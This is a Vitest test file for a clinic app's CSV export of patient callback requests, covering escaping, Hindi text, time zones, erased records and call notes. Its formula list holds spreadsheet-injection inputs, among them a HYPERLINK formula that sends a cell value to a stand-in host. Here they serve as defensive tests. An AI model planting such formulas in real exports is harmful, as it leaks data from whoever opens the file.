import { afterAll, expect, test } from 'vitest';
import { practice } from '#content/practice.ts';
import { day } from '#content/practice-time.ts';
import { recordCall } from '#requests/calls/record.ts';
import { eraseStatements, lockStatements } from '#requests/erase.ts';
import { csvCell, exportRequests, spanOf } from '#requests/lists/export.ts';
import { endDatabases } from '#tests/databases.ts';
import { requestsBench } from '#tests/desk/requests-bench.ts';
import { aFriday, asha } from './requests-bench.ts';

afterAll(endDatabases);

const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://x.test?"&A1)'];

test.each(formulas)('the CSV export escapes the formula %j', (text) => {
  expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
});

test('a CSV cell keeps quotation marks and line breaks', () => {
  expect([csvCell('a "b", c\nd'), csvCell(null), csvCell(3), csvCell('2 - 1 = 1')]).toEqual([
    '"a ""b"", c\nd"',
    '""',
    '"3"',
    '"2 - 1 = 1"',
  ]);
});

async function piecesOf(stream: ReadableStream<Uint8Array>): Promise<ReadonlyArray<string>> {
  const pieces: string[] = [];
  const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
  for await (const piece of stream) pieces.push(decoder.decode(piece));
  return pieces;
}

test('the CSV export contains every request exactly once', async () => {
  const bench = await requestsBench();
  for (let at = 0; at < 50; at += 1) await bench.put({ name: `=N${at}.`, at: aFriday + Math.floor(at / 30), reference: `GI-${at}` });
  const pieces = await piecesOf(exportRequests(bench.db, bench.ring, 'all', 20));
  expect(pieces.length).toBe(4);
  expect(pieces[0]?.startsWith('\uFEFF"Reference","Kind","Received"')).toBe(true);
  const text = pieces.join('');
  expect(text.split('\r\n').length).toBe(52);
  for (let at = 0; at < 50; at += 1) expect(text.split(`"'=N${at}."`).length).toBe(2);
});

test('the export keeps a Devanagari name and the form’s language', async () => {
  const bench = await requestsBench();
  const payload = { ...asha.payload, fname: 'क्षितिज त्रिपाठी' };
  await bench.send(
    { kind: 'callback', payload: { ...payload, description: 'पेट में दर्द है' } },
    { language: 'hi', noticeVersion: '2026-11-22' },
  );
  const text = (await piecesOf(exportRequests(bench.db, bench.ring, 'all'))).join('');
  expect(text).toContain('"क्षितिज त्रिपाठी"');
  expect(text).toContain('"पेट में दर्द है","hi","2026-11-22"');
});

test('a month’s export uses the practice’s time zone', async () => {
  expect(spanOf('2026-12')).toEqual({ from: Date.parse('2026-12-01T00:00+05:30'), to: Date.parse('2027-01-01T00:00+05:30') });
  const bench = await requestsBench();
  for (const [name, at] of [
    ['Before', '2026-10-31T23:59'],
    ['First', '2026-11-01T00:00'],
    ['Last', '2026-11-30T23:59'],
    ['After', '2026-12-01T00:00'],
  ] as const)
    await bench.put({ name, at: Date.parse(`${at}+05:30`) });
  const text = (await piecesOf(exportRequests(bench.db, bench.ring, '2026-11'))).join('');
  expect(['Before', 'First', 'Last', 'After'].filter((name) => text.includes(`"${name}"`))).toEqual(['First', 'Last']);
});

test('the export omits erased and locked requests', async () => {
  const bench = await requestsBench();
  await bench.put({ name: 'Stays', reference: 'GI-AAAA-22' });
  await bench.put({ name: 'Locked', reference: 'GI-AAAA-23' });
  await bench.put({ name: 'Erased', reference: 'GI-AAAA-24' });
  await bench.db.batch(lockStatements(bench.db, { where: 'reference = ?1', bind: ['GI-AAAA-23'] }, aFriday + day));
  await bench.db.batch(eraseStatements(bench.db, { where: 'reference = ?1', bind: ['GI-AAAA-24'] }, aFriday));
  const text = (await piecesOf(exportRequests(bench.db, bench.ring, 'all'))).join('');
  expect(['Stays', 'Locked', 'Erased', 'GI-AAAA-23', 'GI-AAAA-24'].filter((each) => text.includes(each))).toEqual(['Stays']);
});

// A spreadsheet of outcomes like 'reply' and 'moved', without a visit or a word of the doctor, answered no question of the owner's.
test('the CSV export includes visits, notes and the doctor’s answers', async () => {
  const bench = await requestsBench();
  await bench.put({ name: 'Meena', reference: 'GI-AAAA-22' });
  const hours = practice.openingHours;
  const visit = aFriday + 3 * day;
  const steps = [
    { outcome: 'question', note: 'Fever on day 12: come today?' },
    { outcome: 'reply', note: 'Yes, tonight.' },
    { outcome: 'no-answer', note: 'Rang twice.' },
    { outcome: 'booked', note: 'With her son.', at: visit },
  ] as const;
  for (const [place, step] of steps.entries()) {
    const call = { name: 'GI-AAAA-22', email: 'asha@practice.test', version: place + 1, ...step };
    expect(await recordCall({ db: bench.db, ring: bench.ring, now: aFriday + place, hours }, call)).toBe('recorded');
  }
  const text = (await piecesOf(exportRequests(bench.db, bench.ring, 'all'))).join('');
  expect(text).toContain('"Outcome","Comes"');
  expect(text).toContain('"Booked","2026-11-23 10:04"');
  expect(text).toContain(
    '"Fever on day 12: come today?","Yes, tonight.","2026-11-20 10:04 No answer: Rang twice.\n2026-11-20 10:04 Booked: With her son."',
  );
});
